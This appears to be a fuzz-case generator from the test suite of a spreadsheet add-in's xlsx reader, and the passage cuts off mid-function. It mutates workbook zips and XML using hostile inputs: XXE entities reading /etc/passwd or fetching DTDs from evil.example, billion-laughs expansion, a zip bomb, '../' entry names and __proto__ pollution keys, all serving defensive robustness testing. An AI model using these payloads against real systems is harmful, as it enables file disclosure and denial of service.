/**
 * One fuzz case: a seed workbook and one to three mutations at one level — the zip container (bytes,
 * headers, entries), the XML of a part (elements, tags, attributes, escapes, huge ranges, deep nesting,
 * DOCTYPE), or the cell texts — chosen by a generator seeded with the run's seed and the case's index,
 * so that `--seed N --case K` makes the same bytes again.
 */
import { deflateRawSync } from 'zlib';
import { DEFAULT_PROFILE } from '../../src/core/profile';
import { Rng } from './prng';
import { attrValue, ESCAPES, hostileText, NAMES, NUMBERS, RANGES, xmlEscape } from './texts';
import { writeZip, type Entry, type Layout, type Part } from './zipraw';

export interface Seed {
  name: string;
  parts: Part[];
}

export interface FuzzCase {
  /** The seed workbook's file name. */
  seed: string;
  /** What was done to it, in order. */
  ops: string[];
  bytes: Buffer;
}

/** The most one mutation makes a part grow to (the reader's own limits are far above: this keeps cases fast). */
const MAX_PART = 16 << 20;

const SHEET = /^xl\/worksheets\/sheet\d+\.xml$/;

class Work {
  readonly ops: string[] = [];

  constructor(
    readonly rng: Rng,
    readonly entries: Entry[],
  ) {}

  names(): string[] {
    return this.entries.map((e) => e.name);
  }

  text(name: string): string | undefined {
    return this.entries.find((e) => e.name === name)?.data.toString('utf8');
  }

  setText(name: string, s: string): void {
    const e = this.entries.find((x) => x.name === name);
    if (e) e.data = Buffer.from(s, 'utf8');
    else this.entries.push({ name, data: Buffer.from(s, 'utf8') });
  }

  /** A part to mutate, the sheet and the shared strings most often. */
  xmlPart(): string {
    const names = this.names().filter((n) => /\.(xml|rels)$/.test(n));
    const weight = (n: string): number =>
      SHEET.test(n) ? 8 : n === 'xl/sharedStrings.xml' ? 4 : n === 'xl/workbook.xml' ? 3 : n.startsWith('xl/styles') ? 2 : 1;
    return this.rng.weighted(names.map((n) => [n, weight(n)] as const));
  }

  sheetName(): string {
    const sheets = this.names().filter((n) => SHEET.test(n));
    return sheets.length ? this.rng.pick(sheets) : 'xl/worksheets/sheet1.xml';
  }
}

// ------------------------------------------------------------------------------------------ XML helpers

interface Span {
  start: number;
  end: number;
  name: string;
}

/** Start tags in s (at most `max`), with their names. */
function startTags(s: string, max = 20000): { at: number; name: string }[] {
  const out: { at: number; name: string }[] = [];
  const re = /<([A-Za-z_][\w.:-]*)/g;
  for (let m = re.exec(s); m && out.length < max; m = re.exec(s)) out.push({ at: m.index, name: m[1]! });
  return out;
}

/** The whole element starting at `at` (to its matching end tag), or undefined when it has none. */
function extent(s: string, at: number, name: string): Span | undefined {
  const gt = s.indexOf('>', at);
  if (gt < 0) return undefined;
  if (s[gt - 1] === '/') return { start: at, end: gt + 1, name };
  const re = new RegExp(`<(/?)${name.replace(/[.]/g, '\\.')}(?=[\\s/>])`, 'g');
  re.lastIndex = gt + 1;
  let depth = 1;
  for (let m = re.exec(s); m; m = re.exec(s)) {
    const close = s.indexOf('>', m.index);
    if (close < 0) return undefined;
    if (m[1]) depth--;
    else if (s[close - 1] !== '/') depth++;
    if (depth === 0) return { start: at, end: close + 1, name };
  }
  return undefined;
}

function randomElement(rng: Rng, s: string, filter?: (name: string) => boolean): Span | undefined {
  const tags = startTags(s).filter((t) => !filter || filter(t.name));
  for (let i = 0; i < 4 && tags.length; i++) {
    const t = rng.pick(tags);
    const e = extent(s, t.at, t.name);
    if (e) return e;
  }
  return undefined;
}

/** Positions just after a tag (a place where an element may go). */
function tagEnd(rng: Rng, s: string): number {
  const tags = startTags(s);
  if (!tags.length) return s.length;
  const gt = s.indexOf('>', rng.pick(tags).at);
  return gt < 0 ? s.length : gt + 1;
}

function insertAt(s: string, at: number, piece: string): string {
  return s.slice(0, at) + piece + s.slice(at);
}

/** Insert before the first of the end tags found, else at the end. */
function insertBefore(s: string, markers: string[], piece: string): string {
  for (const m of markers) {
    const i = s.indexOf(m);
    if (i >= 0) return insertAt(s, i, piece);
  }
  return s + piece;
}

/** Text nodes: the contents of <t>, <v> or <f> (or any element when none), as [start, end). */
function textNodes(s: string, tag?: string): [number, number][] {
  const out: [number, number][] = [];
  const re = tag ? new RegExp(`<${tag}(?:\\s[^>]*)?>([^<]*)</${tag}>`, 'g') : />([^<]+)</g;
  for (let m = re.exec(s); m && out.length < 20000; m = re.exec(s)) {
    const start = m.index + m[0].indexOf('>') + 1;
    out.push([start, start + m[1]!.length]);
  }
  return out;
}

function repeatWithin(piece: string, n: number): number {
  return Math.max(1, Math.min(n, Math.floor(MAX_PART / Math.max(1, piece.length))));
}

// ------------------------------------------------------------------------------------------ XML mutations

type XmlOp = (w: Work) => string | undefined;

/** Delete, duplicate, nest in itself, or move one element. */
const elementOp: XmlOp = (w) => {
  const name = w.xmlPart();
  const s = w.text(name)!;
  const e = randomElement(w.rng, s);
  if (!e) return undefined;
  const el = s.slice(e.start, e.end);
  const rest = s.slice(0, e.start) + s.slice(e.end);
  switch (w.rng.int(4)) {
    case 0:
      w.setText(name, rest);
      return `delete <${e.name}> in ${name}`;
    case 1: {
      const n = repeatWithin(el, w.rng.pick([1, 1, 2, 10, 1000, 100000]));
      w.setText(name, s.slice(0, e.end) + el.repeat(n) + s.slice(e.end));
      return `duplicate <${e.name}> ×${n} in ${name}`;
    }
    case 2: {
      const open = s.slice(e.start, s.indexOf('>', e.start) + 1).replace(/\/>$/, '>');
      w.setText(name, s.slice(0, e.start) + open + el + `</${e.name}>` + s.slice(e.end));
      return `nest <${e.name}> in itself in ${name}`;
    }
    default:
      w.setText(name, insertAt(rest, tagEnd(w.rng, rest), el));
      return `move <${e.name}> in ${name}`;
  }
};

/** Break the markup: a lost "<" or ">", a stray tag, garbage, a cut. */
const breakOp: XmlOp = (w) => {
  const name = w.xmlPart();
  const s = w.text(name)!;
  if (!s.length) return undefined;
  const at = w.rng.int(s.length);
  const kind = w.rng.int(7);
  const find = (ch: string) => {
    const i = s.indexOf(ch, at);
    return i < 0 ? s.lastIndexOf(ch) : i;
  };
  let out: string;
  let what: string;
  if (kind === 0 || kind === 1) {
    const i = find(kind === 0 ? '<' : '>');
    if (i < 0) return undefined;
    out = s.slice(0, i) + s.slice(i + 1);
    what = kind === 0 ? 'drop a "<"' : 'drop a ">"';
  } else if (kind === 2) {
    const piece = w.rng.pick([
      '<',
      '<x>',
      '</x>',
      '</row>',
      '<row>',
      '<c>',
      '</sheetData>',
      '<?xml version="1.0"?>',
      '<!',
      '&',
      '"',
      "'",
    ]);
    out = insertAt(s, at, piece);
    what = `insert ${JSON.stringify(piece)}`;
  } else if (kind === 3) {
    out = s.slice(0, at);
    what = `cut at ${at}`;
  } else if (kind === 4) {
    const junk = Array.from({ length: w.rng.range(1, 16) }, () => String.fromCharCode(w.rng.int(128))).join('');
    out = insertAt(s, at, junk);
    what = 'insert junk';
  } else if (kind === 5) {
    const i = find('"');
    if (i < 0) return undefined;
    out = s.slice(0, i) + s.slice(i + 1);
    what = 'drop a quote';
  } else {
    // A tag's name changed: the end tag no longer matches.
    const tags = startTags(s);
    if (!tags.length) return undefined;
    const t = w.rng.pick(tags);
    out = s.slice(0, t.at + 1) + 'zz' + s.slice(t.at + 1);
    what = `rename <${t.name}>`;
  }
  w.setText(name, out);
  return `${what} in ${name}`;
};

/** Change an attribute's value (huge rows and columns, odd types, style ids, names …). */
const attrOp: XmlOp = (w) => {
  const name = w.xmlPart();
  const s = w.text(name)!;
  const attrs: { at: number; end: number; name: string }[] = [];
  const re = /\s([A-Za-z_][\w:.-]*)="([^"<]*)"/g;
  for (let m = re.exec(s); m && attrs.length < 20000; m = re.exec(s)) {
    const start = m.index + m[0].indexOf('"') + 1;
    attrs.push({ at: start, end: start + m[2]!.length, name: m[1]! });
  }
  if (!attrs.length) return undefined;
  let out = s;
  const n = w.rng.range(1, 3);
  const changed: string[] = [];
  // From the end, so that earlier offsets stay right.
  const chosen = Array.from({ length: n }, () => w.rng.pick(attrs)).sort((a, b) => b.at - a.at);
  let last = Infinity;
  for (const a of chosen) {
    if (a.end > last) continue;
    const v = attrValue(w.rng, a.name.replace(/^.*:/, ''));
    out = out.slice(0, a.at) + v + out.slice(a.end);
    changed.push(`${a.name}=${JSON.stringify(v.length > 40 ? v.slice(0, 20) + `…(${v.length})` : v)}`);
    last = a.at;
  }
  w.setText(name, out);
  return `set ${changed.join(', ')} in ${name}`;
};

/** Escapes, character references and control characters put into text nodes. */
const escapeOp: XmlOp = (w) => {
  const name = w.rng.chance(0.6) && w.names().includes('xl/sharedStrings.xml') ? 'xl/sharedStrings.xml' : w.xmlPart();
  let s = w.text(name)!;
  const nodes = textNodes(s);
  if (!nodes.length) return undefined;
  const picks = Array.from({ length: w.rng.range(1, 4) }, () => w.rng.pick(nodes)).sort((a, b) => b[0] - a[0]);
  const used: string[] = [];
  for (const [a, b] of picks) {
    const esc = w.rng.pick(ESCAPES);
    s = insertAt(s, w.rng.range(a, b), esc);
    used.push(JSON.stringify(esc));
  }
  w.setText(name, s);
  return `insert ${used.join(' ')} in ${name}`;
};

/** Merges: one over a huge or odd range, or thousands of small ones (overlapping). */
const mergeOp: XmlOp = (w) => {
  const name = w.sheetName();
  const s = w.text(name);
  if (s === undefined) return undefined;
  let cells: string;
  let what: string;
  if (w.rng.chance(0.6)) {
    const ref = w.rng.pick(RANGES);
    cells = `<mergeCell ref="${ref}"/>`;
    what = `merge ${JSON.stringify(ref.slice(0, 30))}`;
  } else {
    const n = w.rng.pick([10, 1000, 20000]);
    const parts: string[] = [];
    for (let i = 0; i < n; i++) {
      const r = w.rng.range(1, 200);
      const c = w.rng.range(1, 20);
      parts.push(`<mergeCell ref="${col(c)}${r}:${col(c + w.rng.int(3))}${r + w.rng.int(3)}"/>`);
    }
    cells = parts.join('');
    what = `${n} merges`;
  }
  w.setText(
    name,
    s.includes('</mergeCells>')
      ? insertBefore(s, ['</mergeCells>'], cells)
      : insertBefore(s, ['<pageMargins', '</worksheet>'], `<mergeCells>${cells}</mergeCells>`),
  );
  return `${what} in ${name}`;
};

function col(n: number): string {
  let s = '';
  for (let x = n; x > 0; x = Math.floor((x - 1) / 26)) s = String.fromCharCode(65 + ((x - 1) % 26)) + s;
  return s;
}

/** Sheet-wide features over huge ranges: data validation, conditional formats, hyperlinks, columns, shared and array formulas. */
const rangeFeatureOp: XmlOp = (w) => {
  const name = w.sheetName();
  const s = w.text(name);
  if (s === undefined) return undefined;
  const ref = w.rng.pick(RANGES);
  const q = xmlEscape(ref);
  const kind = w.rng.int(6);
  let out: string;
  if (kind === 0) {
    out = insertBefore(
      s,
      ['<pageMargins', '</worksheet>'],
      `<dataValidations count="1"><dataValidation type="list" allowBlank="1" sqref="${q}"><formula1>"A,B,C"</formula1></dataValidation></dataValidations>`,
    );
  } else if (kind === 1) {
    out = insertBefore(
      s,
      ['<pageMargins', '</worksheet>'],
      `<conditionalFormatting sqref="${q}"><cfRule type="expression" dxfId="0" priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>`,
    );
  } else if (kind === 2) {
    const loc = w.rng.pick(["'__proto__'!A1", 'A1', "'進捗管理表'!XFD1048576", '', '#REF!']);
    out = insertBefore(
      s,
      ['<pageMargins', '</worksheet>'],
      `<hyperlinks><hyperlink ref="${q}" location="${xmlEscape(loc)}" display="x"/></hyperlinks>`,
    );
  } else if (kind === 3) {
    const max = w.rng.pick(['16384', '16385', '99999999', '0', '-1']);
    out = s.replace(/<cols>.*?<\/cols>/s, '');
    out = insertBefore(
      out,
      ['<sheetData'],
      `<cols><col min="${w.rng.pick(['1', '0', '16384'])}" max="${max}" width="9" customWidth="1"/></cols>`,
    );
  } else if (kind === 4) {
    out = s.replace(/<v>([^<]*)<\/v>/, `<f t="shared" ref="${q}" si="0">A1+1</f><v>$1</v>`);
    out = out.replace(/(<c [^>]*>)<v>/g, (m, open: string) =>
      w.rng.chance(0.3) ? `${open}<f t="shared" si="${w.rng.pick(['0', '1', '-1', 'x'])}"/><v>` : m,
    );
  } else {
    out = s.replace(/<v>([^<]*)<\/v>/, `<f t="array" ref="${q}">1</f><v>$1</v>`);
  }
  w.setText(name, out);
  return `${['data validation', 'conditional format', 'hyperlink', 'cols', 'shared formula', 'array formula'][kind]} over ${JSON.stringify(ref.slice(0, 30))} in ${name}`;
};

/** Defined names over huge ranges or on odd sheets; a sheet called __proto__ (the ExcelJS pollution). */
const definedNameOp: XmlOp = (w) => {
  let s = w.text('xl/workbook.xml');
  if (s === undefined) return undefined;
  const sheetName = /<sheet [^>]*name="([^"]*)"/.exec(s)?.[1] ?? 'Sheet1';
  let target = sheetName;
  if (w.rng.chance(0.4)) {
    target = w.rng.pick(NAMES);
    s = s.replace(/(<sheet [^>]*name=")[^"]*"/, `$1${xmlEscape(target)}"`);
  }
  const q = `'${target.replace(/'/g, "''")}'`;
  const refs = [
    `${q}!$A$1:$XFD$1048576`,
    `${q}!$A:$J`,
    `${q}!$1:$1048576`,
    `${q}!$A$1`,
    `${q}!$A$1:$B$2`,
    '#REF!',
    `${target}!$A$1`,
    Array.from({ length: 2000 }, (_, i) => `${q}!$A$${i + 1}`).join(','),
    'OFFSET(A1,0,0)',
    `${q}!$A$2000000000`,
  ];
  const n = w.rng.range(1, 3);
  const defs: string[] = [];
  for (let i = 0; i < n; i++) {
    const name = w.rng.pick([
      '_xlnm.Print_Area',
      '_xlnm.Print_Titles',
      '_xlnm._FilterDatabase',
      '__proto__',
      'constructor',
      'x',
      'x',
    ]);
    const local = w.rng.chance(0.5) ? ` localSheetId="${w.rng.pick(['0', '1', '-1', '99'])}"` : '';
    defs.push(`<definedName name="${name}"${local}>${xmlEscape(w.rng.pick(refs))}</definedName>`);
  }
  s = s.replace(/<definedNames>.*?<\/definedNames>/s, '');
  s = s.replace('</sheets>', `</sheets><definedNames>${defs.join('')}</definedNames>`);
  w.setText('xl/workbook.xml', s);
  return `defined names on ${JSON.stringify(target.slice(0, 20))}: ${defs.length}`;
};

/** Elements nested very deep (closed, or never closed). */
const deepOp: XmlOp = (w) => {
  const name = w.rng.chance(0.6) ? w.sheetName() : w.xmlPart();
  const s = w.text(name);
  if (s === undefined) return undefined;
  const n = w.rng.pick([64, 1000, 10000, 100000, 1000000]);
  const tag = w.rng.pick(['x', 'c', 'row', 'si', 'r', 't', 'sheetData']);
  const closed = w.rng.chance(0.8);
  const at = tagEnd(w.rng, s);
  w.setText(name, insertAt(s, at, `<${tag}>`.repeat(n) + (closed ? `</${tag}>`.repeat(n) : '')));
  return `nest <${tag}> ${n} deep${closed ? '' : ' (unclosed)'} in ${name}`;
};

/** A DOCTYPE with entities: external, recursive, exponential (billion laughs), and references to them. */
const doctypeOp: XmlOp = (w) => {
  const name = w.rng.chance(0.5) ? 'xl/sharedStrings.xml' : w.xmlPart();
  let s = w.text(name);
  if (s === undefined) return undefined;
  const kinds = [
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE x [<!ENTITY e "&e;">]>',
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' +
      Array.from(
        { length: 9 },
        (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`,
      ).join('') +
      ']><!-- laughs -->',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
    '<!DOCTYPE x [<!ELEMENT x (#PCDATA)> <!ATTLIST x a CDATA "1">]>',
    '<!DOCTYPE x [<!ENTITY e "<t>injected</t>">]>',
  ];
  const k = w.rng.int(kinds.length);
  const decl = s.match(/^(\uFEFF)?<\?xml[^>]*\?>/)?.[0] ?? '';
  s = decl + kinds[k] + s.slice(decl.length);
  const ref = k === 3 ? '&j;' : '&e;';
  const nodes = textNodes(s);
  if (nodes.length && k !== 1) {
    const [a] = w.rng.pick(nodes);
    s = insertAt(s, a, ref);
  }
  w.setText(name, s);
  return `DOCTYPE #${k} in ${name}`;
};

/** Rows: a huge row number, rows out of order, a repeated row, many empty rows, a cell without r. */
const rowsOp: XmlOp = (w) => {
  const name = w.sheetName();
  let s = w.text(name);
  if (s === undefined) return undefined;
  const kind = w.rng.int(5);
  if (kind === 0) {
    const r = w.rng.pick(['1048576', '1048577', '2000000000', '4294967296', '99999999999', '65536', '100000']);
    const c = w.rng.pick(['A', 'J', 'XFD', 'XFE', 'ZZZZ']);
    s = insertBefore(
      s,
      ['</sheetData>'],
      `<row r="${r}"><c r="${c}${r}" t="inlineStr"><is><t>${xmlEscape(hostileText(w.rng).slice(0, 100))}</t></is></c></row>`,
    );
    w.setText(name, s);
    return `a cell at ${c}${r} in ${name}`;
  }
  const rows = [...s.matchAll(/<row[\s>][\s\S]*?<\/row>/g)];
  if (!rows.length) return undefined;
  const first = rows[0]!.index!;
  const last = rows[rows.length - 1]!;
  const end = last.index! + last[0].length;
  let list = rows.map((m) => m[0]);
  if (kind === 1) list.reverse();
  else if (kind === 2) {
    const i = w.rng.int(list.length);
    list.splice(i, 0, list[i]!);
  } else if (kind === 3) {
    const n = w.rng.pick([1000, 20000]);
    const start = rows.length + 10;
    const empty = Array.from({ length: n }, (_, i) => `<row r="${start + i}"><c r="A${start + i}"/></row>`);
    list = [...list, ...empty];
  } else {
    list = list.map((r) => (w.rng.chance(0.3) ? r.replace(/<c r="[^"]*"/g, '<c') : r));
  }
  w.setText(name, s.slice(0, first) + list.join('') + s.slice(end));
  return `${['', 'rows reversed', 'a row repeated', 'many empty rows', 'cells without r'][kind]} in ${name}`;
};

/** Rich text and inline strings, including runs without <t> (the writer's old crash). */
const richOp: XmlOp = (w) => {
  const kind = w.rng.int(3);
  if (kind < 2) {
    const s = w.text('xl/sharedStrings.xml');
    if (s === undefined) return undefined;
    const items = [...s.matchAll(/<si>[\s\S]*?<\/si>/g)];
    if (!items.length) return undefined;
    const m = w.rng.pick(items);
    const t = xmlEscape(hostileText(w.rng));
    const rich =
      kind === 0
        ? w.rng.pick([
            '<si><r><rPr><b/></rPr></r></si>',
            '<si><r><rPr><b/></rPr></r><r><t>x</t></r></si>',
            `<si><r><t>${t}</t></r><r><rPr><color rgb="FFFF0000"/></rPr><t xml:space="preserve"> ${t}</t></r></si>`,
            '<si><r></r></si>',
            '<si/>',
            '<si><t/></si>',
            `<si><t>${t}</t><rPh sb="0" eb="1"><t>フリガナ</t></rPh></si>`,
          ])
        : `<si><t>${t}</t></si>`;
    w.setText('xl/sharedStrings.xml', s.slice(0, m.index!) + rich + s.slice(m.index! + m[0].length));
    return `rich text item in sharedStrings`;
  }
  const name = w.sheetName();
  const s = w.text(name);
  if (s === undefined) return undefined;
  const cells = [...s.matchAll(/<c r="([^"]+)"[^>]*?(?:\/>|>[\s\S]*?<\/c>)/g)];
  if (!cells.length) return undefined;
  const m = w.rng.pick(cells);
  const t = xmlEscape(hostileText(w.rng));
  const is = w.rng.pick([
    `<is><t>${t}</t></is>`,
    `<is><r><rPr><b/></rPr><t>${t}</t></r><r><rPr/></r></is>`,
    '<is><r><rPr><i/></rPr></r></is>',
    '<is/>',
    '',
  ]);
  w.setText(name, s.slice(0, m.index!) + `<c r="${m[1]}" t="inlineStr">${is}</c>` + s.slice(m.index! + m[0].length));
  return `inline string at ${m[1]} in ${name}`;
};

/** Set an own property, even one called __proto__. */
function own(o: object, key: string, value: unknown): void {
  Object.defineProperty(o, key, { value, enumerable: true, writable: true, configurable: true });
}

/** A profile saved in the workbook by the add-in (document settings), valid or hostile. */
const profileOp: XmlOp = (w) => {
  const json = JSON.parse(JSON.stringify(DEFAULT_PROFILE)) as Record<string, unknown>;
  const values: unknown[] = [
    null,
    -1,
    1e308,
    '',
    'x'.repeat(10000),
    [],
    {},
    true,
    [1, 2, 3],
    'A',
    JSON.parse('{"__proto__":{"x":1}}'),
    Array(10000).fill('A'),
  ];
  const keys = Object.keys(json);
  let text: string;
  let what: string;
  if (w.rng.chance(0.15)) {
    text = w.rng.pick([
      'not json',
      '{',
      '',
      '\uFEFF{}',
      'null',
      '[]',
      '{"__proto__":{"rules":{}}}',
      '{"constructor":{"prototype":{"x":1}}}',
    ]);
    what = `raw ${JSON.stringify(text)}`;
  } else {
    const n = w.rng.range(1, 3);
    const set: string[] = [];
    for (let i = 0; i < n; i++) {
      const k = w.rng.chance(0.1) ? w.rng.pick(['__proto__', 'constructor', 'bogus']) : w.rng.pick(keys);
      const v = w.rng.pick(values);
      // Only the profile's own keys: json["__proto__"] would be Object.prototype itself.
      const cur = Object.hasOwn(json, k) ? json[k] : undefined;
      if (cur && typeof cur === 'object' && !Array.isArray(cur) && w.rng.chance(0.5)) {
        const sub = Object.keys(cur);
        const sk = sub.length && w.rng.chance(0.8) ? w.rng.pick(sub) : '__proto__';
        own(cur, sk, v);
        set.push(`${k}.${sk}`);
      } else {
        own(json, k, v);
        set.push(k);
      }
    }
    text = JSON.stringify(json);
    what = `profile with ${set.join(', ')} changed`;
  }
  w.setText(
    'xl/webextensions/webextension1.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{5C5F6C2B-7E0E-4C5E-9D55-6B8F0E0F0A11}"><we:properties><we:property name="kpiCheck.profile" value="${xmlEscape(text)}"/></we:properties></we:webextension>`,
  );
  return what;
};

// ------------------------------------------------------------------------------------------ cell texts

/** Replace a few cell texts (shared strings, inline strings, formula results) with hostile ones. */
const cellTextOp: XmlOp = (w) => {
  const inSst = w.names().includes('xl/sharedStrings.xml') && w.rng.chance(0.8);
  const name = inSst ? 'xl/sharedStrings.xml' : w.sheetName();
  let s = w.text(name);
  if (s === undefined) return undefined;
  const nodes = textNodes(s, 't');
  if (!nodes.length) return undefined;
  const n = w.rng.range(1, 5);
  const picks = [...new Set(Array.from({ length: n }, () => w.rng.int(nodes.length)))].sort((a, b) => b - a);
  let raw = 0;
  for (const i of picks) {
    const [a, b] = nodes[i]!;
    let t = hostileText(w.rng);
    if (w.rng.chance(0.9)) t = xmlEscape(t);
    else raw++;
    s = s.slice(0, a) + t + s.slice(b);
  }
  w.setText(name, s);
  return `${picks.length} texts${raw ? ` (${raw} unescaped)` : ''} in ${name}`;
};

/** Cell values: odd numbers, types and shared-string indexes. */
const cellValueOp: XmlOp = (w) => {
  const name = w.sheetName();
  let s = w.text(name);
  if (s === undefined) return undefined;
  const nodes = textNodes(s, 'v');
  if (!nodes.length) return undefined;
  const n = w.rng.range(1, 5);
  const picks = [...new Set(Array.from({ length: n }, () => w.rng.int(nodes.length)))].sort((a, b) => b - a);
  for (const i of picks) {
    const [a, b] = nodes[i]!;
    s = s.slice(0, a) + w.rng.pick(NUMBERS) + s.slice(b);
  }
  w.setText(name, s);
  return `${picks.length} values in ${name}`;
};

/** Invalid UTF-8 (lone surrogates, overlong forms, stray bytes) in a text of a part. */
function badUtf8(w: Work): string | undefined {
  const name = w.rng.chance(0.6) && w.names().includes('xl/sharedStrings.xml') ? 'xl/sharedStrings.xml' : w.xmlPart();
  const e = w.entries.find((x) => x.name === name)!;
  const s = e.data.toString('latin1');
  const nodes = textNodes(s);
  if (!nodes.length) return undefined;
  const [a, b] = w.rng.pick(nodes);
  const at = w.rng.range(a, b);
  const seq = w.rng.pick([
    [0xed, 0xa0, 0x80],
    [0xed, 0xbf, 0xbf],
    [0xff],
    [0xc0, 0x80],
    [0xf4, 0x90, 0x80, 0x80],
    [0xe3, 0x81],
    [0xef, 0xbf, 0xbf],
    [0x80],
  ]);
  e.data = Buffer.concat([e.data.subarray(0, at), Buffer.from(seq), e.data.subarray(at)]);
  return `bytes ${seq.map((x) => x.toString(16)).join(' ')} in ${name}`;
}

// ------------------------------------------------------------------------------------------ zip mutations

type EntryOp = (w: Work) => string | undefined;

/** Duplicate, drop, reorder, rename or re-store entries before the zip is written. */
const entryOp: EntryOp = (w) => {
  const es = w.entries;
  const i = w.rng.int(es.length);
  const e = es[i]!;
  switch (w.rng.int(7)) {
    case 0: {
      const data = w.rng.pick([e.data, Buffer.alloc(0), es[w.rng.int(es.length)]!.data]);
      es.splice(w.rng.int(es.length + 1), 0, { name: e.name, data });
      return `duplicate entry ${e.name}`;
    }
    case 1:
      es.splice(i, 1);
      return `drop entry ${e.name}`;
    case 2:
      for (let k = es.length - 1; k > 0; k--) {
        const j = w.rng.int(k + 1);
        [es[k], es[j]] = [es[j]!, es[k]!];
      }
      return 'reorder entries';
    case 3: {
      const name = w.rng.pick([
        '/' + e.name,
        e.name.toUpperCase(),
        e.name.replace(/\//g, '\\'),
        '../' + e.name,
        e.name + '/',
        e.name + ' ',
        e.name + '\u0000',
      ]);
      es[i] = { ...e, name };
      return `rename ${e.name} to ${JSON.stringify(name)}`;
    }
    case 4:
      es[i] = { ...e, method: 0 };
      return `store ${e.name}`;
    case 5: {
      const method = w.rng.pick([0, 12, 14, 99, 9]);
      es[i] = { ...e, method, raw: deflateRawSync(e.data) };
      return `declare method ${method} for deflated ${e.name}`;
    }
    default:
      es[i] = { ...e, flags: w.rng.pick([0x801, 0x808, 0x0, 0x41]) };
      return `flags of ${e.name}`;
  }
};

let bomb: Buffer | undefined;
/**
 * 300 MiB of zeros deflated (about 300 KB): made once by the main thread (it takes seconds) and handed to
 * the workers (useBomb), so that no case's time includes making it.
 */
export function bombBytes(): Buffer {
  return (bomb ??= deflateRawSync(Buffer.alloc(300 << 20), { level: 9 }));
}

export function useBomb(bytes: Uint8Array): void {
  bomb = Buffer.from(bytes);
}

/** A part that inflates beyond the reader's limits: used (a sheet), or a part nothing reads. */
const bombOp: EntryOp = (w) => {
  const name = w.rng.pick([w.sheetName(), 'xl/sharedStrings.xml', 'xl/styles.xml', 'xl/media/image1.png', 'customXml/item1.xml']);
  const lie = w.rng.chance(0.5);
  const entry: Entry = { name, data: Buffer.alloc(0), raw: bombBytes(), crc: 0, size: lie ? 1000 : 300 << 20 };
  const i = w.entries.findIndex((e) => e.name === name);
  if (i >= 0) w.entries[i] = entry;
  else w.entries.push(entry);
  return `zip bomb as ${name}${lie ? ' (size declared 1000)' : ''}`;
};

type ByteOp = (rng: Rng, bytes: Buffer, layout: Layout) => { bytes: Buffer; op: string };

/** Damage the written zip: cut it, flip bytes where they matter, lie in its headers. */
const byteOp: ByteOp = (rng, src, layout) => {
  const bytes = Buffer.from(src);
  const es = layout.entries;
  const e = es.length ? rng.pick(es) : undefined;
  switch (rng.int(9)) {
    case 0: {
      const at = rng.int(bytes.length);
      return { bytes: bytes.subarray(0, at), op: `truncate at ${at} of ${bytes.length}` };
    }
    case 1: {
      const region = rng.pick(['central', 'local', 'data', 'eocd', 'any'] as const);
      let lo = 0;
      let hi = bytes.length;
      if (region === 'central') [lo, hi] = [layout.centralStart, layout.eocd];
      else if (region === 'eocd') [lo, hi] = [layout.eocd, bytes.length];
      else if (region === 'local' && e) [lo, hi] = [e.local, e.data];
      else if (region === 'data' && e) [lo, hi] = [e.data, e.dataEnd];
      if (hi <= lo) return { bytes, op: 'flip nothing' };
      const n = rng.range(1, 16);
      for (let k = 0; k < n; k++) {
        const at = rng.range(lo, hi - 1);
        bytes[at] = bytes[at]! ^ rng.range(1, 255);
      }
      return {
        bytes,
        op: `flip ${n} bytes in ${region}${e && (region === 'local' || region === 'data') ? ` of ${e.name}` : ''}`,
      };
    }
    case 2: {
      if (!e) return { bytes, op: 'no entry' };
      const field = rng.pick([
        ['central compressed size', e.central + 20],
        ['central size', e.central + 24],
        ['local compressed size', e.local + 18],
        ['local size', e.local + 22],
      ] as const);
      const v = rng.pick([
        0,
        1,
        100,
        0xffffffff,
        0x7fffffff,
        400 << 20,
        bytes.readUInt32LE(field[1]) + 1,
        bytes.readUInt32LE(field[1]) - 1,
        rng.int(0x100000000),
      ]);
      bytes.writeUInt32LE(v >>> 0, field[1]);
      return { bytes, op: `${field[0]} of ${e.name} = ${v >>> 0}` };
    }
    case 3: {
      if (!e) return { bytes, op: 'no entry' };
      const at = rng.chance(0.5) ? e.central + 16 : e.local + 14;
      bytes.writeUInt32LE(rng.int(0x100000000), at);
      return { bytes, op: `CRC of ${e.name}` };
    }
    case 4: {
      const field = rng.pick([
        ['entries on disk', 8, 2],
        ['entries', 10, 2],
        ['directory size', 12, 4],
        ['directory offset', 16, 4],
      ] as const);
      const v = rng.pick([0, 1, 0xffff, 0xffffffff, rng.int(0x10000)]);
      if (field[2] === 2) bytes.writeUInt16LE(v & 0xffff, layout.eocd + field[1]);
      else bytes.writeUInt32LE(v >>> 0, layout.eocd + field[1]);
      return { bytes, op: `end of directory: ${field[0]} = ${v}` };
    }
    case 5: {
      // The directory lists one entry many times (same or other names), each pointing at the same data.
      if (!e) return { bytes, op: 'no entry' };
      const rec = bytes.subarray(e.central, e.central + 46 + bytes.readUInt16LE(e.central + 28));
      const n = rng.pick([100, 2000, 65000]);
      const size = rng.pick([rec.readUInt32LE(24), 400 << 20]);
      const copies: Buffer[] = [];
      const same = rng.chance(0.5);
      for (let k = 0; k < n; k++) {
        const name = same ? rec.subarray(46) : Buffer.from(`xl/media/image${k}.png`);
        const r = Buffer.concat([rec.subarray(0, 46), name]);
        r.writeUInt16LE(name.length, 28);
        r.writeUInt32LE(size >>> 0, 24);
        copies.push(r);
      }
      const extra = Buffer.concat(copies);
      const eocd = Buffer.from(bytes.subarray(layout.eocd));
      const count = Math.min(0xffff, es.length + n);
      eocd.writeUInt16LE(count, 8);
      eocd.writeUInt16LE(count, 10);
      eocd.writeUInt32LE(layout.eocd - layout.centralStart + extra.length, 12);
      return {
        bytes: Buffer.concat([bytes.subarray(0, layout.eocd), extra, eocd]),
        op: `directory lists ${e.name} ${n} more times${same ? '' : ' under other names'}, size ${size}`,
      };
    }
    case 6: {
      // A zip64 locator before the end of directory, pointing at garbage or a huge count.
      const loc = Buffer.alloc(20);
      loc.writeUInt32LE(0x07064b50, 0);
